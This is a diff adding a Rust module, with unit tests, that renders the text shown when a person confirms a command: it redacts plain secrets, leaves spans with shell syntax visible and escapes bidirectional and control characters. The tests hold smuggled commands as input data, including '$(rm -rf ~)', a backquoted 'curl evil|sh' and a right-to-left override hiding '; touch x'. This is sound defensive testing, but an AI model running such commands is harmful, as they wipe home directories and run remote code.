@@ -1,0 +1,87 @@
+//! What a person is shown when asked to confirm a call.
+//!
+//! Two rules meet here. A confirmation must show exactly what will run, so nothing may be hidden
+//! in it (Attack: display spoofing, with bidirectional overrides or control characters: all are
+//! shown escaped). And a secret in the command (a bearer token, a key) should not be put on the
+//! screen or into a client's transcript (Attack: LOG-01). So a secret is replaced by `[REDACTED]`
+//! only where the replaced text is a secret's shape alone: a span holding shell syntax (`$`,
+//! backquotes, `;`, `|`, `&`, redirections, parentheses, braces, quotes, whitespace) is shown as it
+//! is, since hiding it could hide what runs. The approval still binds to the call itself: what is
+//! approved is the prepared call that runs, whatever its display.
+
+use similar::{ChangeTag, TextDiff};
+use spear_policy::make_visible;
+use spear_runtime::redact::redact;
+
+/// The text a confirmation shows for `command`: secrets of a plain shape redacted, everything
+/// else exactly as it will run, with control, bidirectional and invisible characters escaped.
+pub fn confirmation_text(command: &str) -> String {
+    make_visible(&redact_plain_secrets(command))
+}
+
+/// `text` with the redactor's replacements kept only where what they replace holds no shell
+/// syntax.
+fn redact_plain_secrets(text: &str) -> String {
+    let redacted = redact(text);
+    if redacted == text {
+        return text.to_owned();
+    }
+    let diff = TextDiff::from_chars(text, redacted.as_ref());
+    let mut out = String::with_capacity(text.len());
+    let mut removed = String::new();
+    let mut inserted = String::new();
+    let flush = |out: &mut String, removed: &mut String, inserted: &mut String| {
+        if removed.chars().any(is_shell_syntax) {
+            out.push_str(removed);
+        } else {
+            out.push_str(inserted);
+        }
+        removed.clear();
+        inserted.clear();
+    };
+    for change in diff.iter_all_changes() {
+        match change.tag() {
+            ChangeTag::Equal => {
+                flush(&mut out, &mut removed, &mut inserted);
+                out.push_str(change.value());
+            }
+            ChangeTag::Delete => removed.push_str(change.value()),
+            ChangeTag::Insert => inserted.push_str(change.value()),
+        }
+    }
+    flush(&mut out, &mut removed, &mut inserted);
+    out
+}
+
+/// Characters that make a span more than a secret's value.
+fn is_shell_syntax(c: char) -> bool {
+    c.is_whitespace() || "$`;|&<>(){}'\"\\*?![]#~".contains(c)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn plain_tokens_are_redacted_shell_syntax_is_not() {
+        // LOG-01: the token goes, the rest stays.
+        let shown = confirmation_text(
+            "curl -H 'Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyzAB' https://api.github.com/user",
+        );
+        assert!(!shown.contains("ghp_0123"), "{shown}");
+        assert!(shown.contains("Authorization: Bearer") && shown.contains("api.github.com"));
+        // A "token" that is really a command substitution is shown as it is.
+        let shown = confirmation_text("curl -H 'Authorization: Bearer $(rm -rf ~)' https://x");
+        assert!(shown.contains("$(rm -rf ~)"), "{shown}");
+        let shown = confirmation_text("API_TOKEN=`curl evil|sh` make");
+        assert!(shown.contains("`curl evil|sh`"), "{shown}");
+        // Bidirectional overrides and controls are shown escaped (APR-01).
+        let shown = confirmation_text("echo \"\u{202e}; touch x #\u{202c} safe\"");
+        assert!(
+            shown.contains("\\u{202e}") && !shown.contains('\u{202e}'),
+            "{shown}"
+        );
+        // Nothing secret: unchanged.
+        assert_eq!(confirmation_text("cargo test --all"), "cargo test --all");
+    }
+}
